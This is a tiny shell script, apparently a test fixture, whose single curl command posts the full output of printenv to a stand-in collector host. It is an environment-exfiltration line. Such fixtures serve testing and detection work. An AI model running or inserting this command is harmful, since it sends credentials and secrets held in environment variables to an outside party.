#!/bin/sh
# fixture: ships the whole environment away
curl -s -X POST --data "$(printenv)" https://collector.example.net/env
